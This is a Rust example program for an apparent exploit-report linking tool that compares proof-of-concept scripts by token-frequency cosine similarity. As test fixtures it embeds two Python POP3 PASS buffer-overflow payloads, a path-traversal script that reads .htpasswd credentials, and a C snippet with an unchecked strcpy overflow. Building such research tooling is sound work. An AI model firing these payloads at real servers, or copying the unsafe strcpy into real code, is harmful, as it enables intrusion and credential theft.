//! Token-frequency cosine between two ports of the same exploit, an
//! unrelated script in the same language and one in another language.
//!
//! Punctuation counts make any two short scripts in one language look alike,
//! so the threshold alone is a weak filter. Links are only ever considered
//! between reports that already share a CVE id.
//!
//! cargo run -p pocfuse --example code_similarity

use pocfuse::classify::LanguageId;
use pocfuse::link::Thresholds;
use pocfuse::similarity::{cosine_similarity, tokenize_code};

const ORIGINAL: &str = r#"import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.5", 110))
s.recv(1024)
s.send(b"USER test\r\n")
s.recv(1024)
s.send(b"PASS " + b"A" * 2700 + b"\r\n")
s.close()
"#;

const REPOST: &str = r#"import socket
buffer = b"A" * 2700
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.168.1.20", 110))
s.recv(1024)
s.send(b"USER root\r\n")
s.recv(1024)
s.send(b"PASS " + buffer + b"\r\n")
s.close()
"#;

const UNRELATED: &str = r#"#!/usr/bin/env python3
# Reads the admin cookie through a path traversal in the download handler.
import urllib.request
url = "http://target/download?file=" + "../" * 8 + "var/www/.htpasswd"
with urllib.request.urlopen(url) as resp:
    for line in resp.read().decode().splitlines():
        if ":" in line:
            user, digest = line.split(":", 1)
            print(user, digest)
"#;

const OTHER_LANGUAGE: &str = r#"#include <stdio.h>
#include <string.h>
int main(void) {
    char name[16];
    strcpy(name, getenv("HOME"));
    return 0;
}
"#;

fn main() {
    let threshold = Thresholds::default().code;
    let v = |src| tokenize_code(src, LanguageId::Python);
    let (a, b, c) = (v(ORIGINAL), v(REPOST), v(UNRELATED));
    let d = tokenize_code(OTHER_LANGUAGE, LanguageId::CCpp);
    for (name, x, y) in [
        ("original vs repost", &a, &b),
        ("original vs unrelated", &a, &c),
        ("original vs C program", &a, &d),
    ] {
        let cos = cosine_similarity(x, y);
        let verdict = if cos.value >= threshold { "above" } else { "below" };
        println!("{name:<22} {:.4}  {verdict} (threshold {threshold})", cos.value);
    }
}
